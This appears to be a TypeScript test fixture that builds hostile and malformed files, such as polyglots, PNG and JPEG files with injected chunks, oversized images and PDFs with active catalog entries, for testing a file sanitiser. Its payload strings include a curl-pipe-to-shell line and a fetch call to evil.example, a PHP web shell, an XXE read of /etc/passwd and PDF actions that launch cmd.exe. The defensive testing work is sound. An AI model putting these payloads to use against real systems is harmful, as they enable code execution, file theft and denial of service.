import { deflateSync } from 'node:zlib'
import {
  makePdf,
  makePhoto,
  makePicture,
  pdfStream,
  pngOfSize,
  withChunk,
  withSegment,
} from './make-files.ts'

/** A dangerous file, or one with hidden data. Its mark must be gone from the cleaned picture. */
type HostileFile = { readonly name: string; readonly bytes: Buffer; readonly mark: string }

/** The first bytes of programs, web pages and archives. The mark follows. */
const FOREIGN: readonly (readonly [string, string])[] = [
  ['exe', 'MZ\x90\0\x03\0\0\0'],
  ['elf', '\x7fELF\x02\x01\x01\0'],
  ['mach-o', '\xcf\xfa\xed\xfe\x07\0\0\x01'],
  ['java', '\xca\xfe\xba\xbe\0\0\0\x34'],
  ['wasm', '\0asm\x01\0\0\0'],
  ['zip', 'PK\x03\x04\x14\0\0\0'],
  ['gzip', '\x1f\x8b\x08\0\0\0\0\0'],
  ['rar', 'Rar!\x1a\x07\0'],
  ['html', '<!doctype html><script>alert(1)</script>'],
  ['svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ['php', '<?php system($_GET["c"]); ?>'],
  ['shell', '#!/bin/sh\ncurl http://evil.example | sh\n'],
  ['script', 'MSForms = 1; fetch("http://evil.example")\n'],
  ['rtf', '{\\rtf1\\ansi{\\object\\objocx}}'],
  ['ole', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'],
  ['postscript', '%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n'],
  ['gif', 'GIF89a\x01\0\x01\0\0\0\0;'],
  ['webp', 'RIFF\x1a\0\0\0WEBPVP8L'],
  ['tiff', 'II*\0\x08\0\0\0'],
]

/** Catalog entries that run, open, send or carry something; `$` is the mark. */
const ACTIVE: readonly string[] = [
  '/OpenAction << /S /JavaScript /JS (app.alert\\("$"\\)) >>',
  '/OpenAction << /S /Launch /F (cmd.exe $) >>',
  '/OpenAction << /S /SubmitForm /F (http://evil.example/$) >>',
  '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\$) >>',
  '/OpenAction << /S /URI /URI (javascript:$) >>',
  '/URI << /Base (javascript:$) >>',
  '/AA << /WC << /S /JavaScript /JS ($) >> >>',
  '/Names << /EmbeddedFiles << /Names [($) 5 0 R] >> >>',
  '/AcroForm << /Fields [] /XFA [($) 5 0 R] >>',
  '/Extra << /Type /Annot /Subtype /RichMedia /NM ($) >>',
]

/** The hostile files, generated on each call, each with a different mark. */
export async function makeHostileFiles(): Promise<readonly HostileFile[]> {
  const files: HostileFile[] = []
  const add = (name: string, make: (mark: string) => Buffer | string) => {
    const mark = `CANARY-${files.length}-`
    const made = make(mark)
    files.push({ name, mark, bytes: typeof made === 'string' ? Buffer.from(made, 'latin1') : made })
  }
  const [png, jpeg, pdf] = [await makePicture('png'), await makePicture('jpeg'), makePdf()]
  const foreign = (beginning: string, mark: string) =>
    Buffer.from(beginning + mark.repeat(20), 'latin1')

  for (const [name, beginning] of FOREIGN) {
    add(`${name} under another name`, (mark) => foreign(beginning, mark))
    add(`${name} behind the beginning of a PNG`, (mark) =>
      Buffer.concat([png.subarray(0, 8), foreign(beginning, mark)]),
    )
    add(`${name} behind the beginning of a JPEG`, (mark) =>
      Buffer.concat([jpeg.subarray(0, 3), foreign(beginning, mark)]),
    )
    add(`${name} behind the beginning of a PDF`, (mark) =>
      Buffer.concat([pdf.subarray(0, 9), foreign(beginning, mark)]),
    )
    add(`${name} behind a PNG`, (mark) => Buffer.concat([png, foreign(beginning, mark)]))
    add(`${name} behind a JPEG`, (mark) => Buffer.concat([jpeg, foreign(beginning, mark)]))
    add(`${name} behind a PDF`, (mark) => Buffer.concat([pdf, foreign(beginning, mark)]))
  }
  for (const type of ['tEXt', 'zTXt', 'iTXt', 'eXIf', 'iCCP', 'prVt', 'tIME', 'XXXX']) {
    add(`a PNG with a chunk ${type}`, (mark) =>
      withChunk(png, type, Buffer.from(`Comment\0${mark}`)),
    )
  }
  for (const marker of [0xe1, 0xe2, 0xe3, 0xe9, 0xec, 0xed, 0xef, 0xfe]) {
    const name = marker.toString(16)
    add(`a JPEG with a segment ${name}`, (mark) =>
      withSegment(jpeg, marker, Buffer.from(`<?php ${mark} ?>`)),
    )
    add(`a JPEG with a wrong segment ${name}`, (mark) =>
      withSegment(jpeg, marker, Buffer.from(`Exif\0\0II*\0${mark}`)),
    )
  }
  for (let part = 1; part <= 6; part += 1) {
    add(`${part}/7 of a PNG`, () => png.subarray(0, (png.length * part) / 7))
    add(`${part}/7 of a JPEG`, () => jpeg.subarray(0, (jpeg.length * part) / 7))
    add(`${part}/7 of a PDF`, () => pdf.subarray(0, (pdf.length * part) / 7))
  }
  for (const size of [20_000, 40_000, 65_535, 500_000, 2_000_000_000]) {
    add(`a PNG of ${size} by ${size}`, () => pngOfSize(size, size))
    add(`a JPEG that says to be ${size} high`, () => {
      const large = Buffer.from(jpeg)
      large.writeUInt32BE(0xffffffff, large.indexOf(Buffer.from([0xff, 0xc0])) + 5)
      return large
    })
  }
  add('nothing', () => '')
  add('one byte', () => '%')
  add('a PNG whose pixels were changed', () => changed(png, png.indexOf('IDAT') + 8))
  add('a JPEG whose tables were changed', () => changed(jpeg, 30))
  for (let turn = 1; turn <= 8; turn += 1) {
    const photo = await makePhoto({ degrees: 10 + turn, orientation: turn })
    files.push({
      name: `a photo with its position, ${turn}`,
      bytes: photo,
      mark: `CANARY-${10 + turn}`,
    })
  }
  for (const active of ACTIVE)
    add(`a PDF with ${active}`, (mark) =>
      makePdf({ catalog: active.replace('$', mark), objects: [`<< /N (${mark}) >>`] }),
    )
  for (const [name, pdf] of oddPdfs()) add(name, () => pdf)
  return files
}

function changed(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes)
  copy[at] = 0xff ^ (copy[at] ?? 0)
  return copy
}

/** PDFs that are difficult to parse, or that viewers open although a strict parser would not. */
function oddPdfs(): readonly (readonly [string, Buffer])[] {
  const plain = makePdf().toString('latin1')
  const objects = (entries: number, text: Buffer) => {
    const places = Array.from({ length: entries }, (_, i) => `${i + 9} 0`).join(' ')
    const packed = deflateSync(Buffer.concat([Buffer.from(`${places} `), text]))
    return pdfStream(
      `/Type /ObjStm /N ${entries} /First ${places.length + 1} /Filter /FlateDecode`,
      packed,
    )
  }
  const blanks = Buffer.alloc(60_000_000, ' ')
  return [
    [
      'a PDF with 40 objects on one long text',
      makePdf({ objects: [objects(40, Buffer.alloc(40_000_000, '('))] }),
    ],
    ['a PDF with 100 objects on blanks', makePdf({ objects: [objects(100, blanks)] })],
    ['a PDF with 12,000 objects on blanks', makePdf({ objects: [objects(12_000, blanks)] })],
    ['a PDF that is nested ten thousand times', makePdf({ catalog: `/A ${'['.repeat(10_000)}` })],
    ['a PDF of many objects', Buffer.from(`%PDF-1.4\n${'1 0 obj 1 endobj\n'.repeat(400_000)}`)],
    ['an encrypted PDF', makePdf({ trailer: '/Encrypt << /Filter /Standard >>' })],
    ['a PDF with a line before it', Buffer.from(`\n${plain}`, 'latin1')],
    ['a PDF with a mark before it', Buffer.from(`\xef\xbb\xbf${plain}`, 'latin1')],
    [
      'a PDF with zeros behind it',
      Buffer.concat([Buffer.from(plain, 'latin1'), Buffer.alloc(2_000)]),
    ],
    [
      'a PDF whose stream is shorter than it says',
      Buffer.from(plain.replace('/Length 35', '/Length 900'), 'latin1'),
    ],
  ]
}
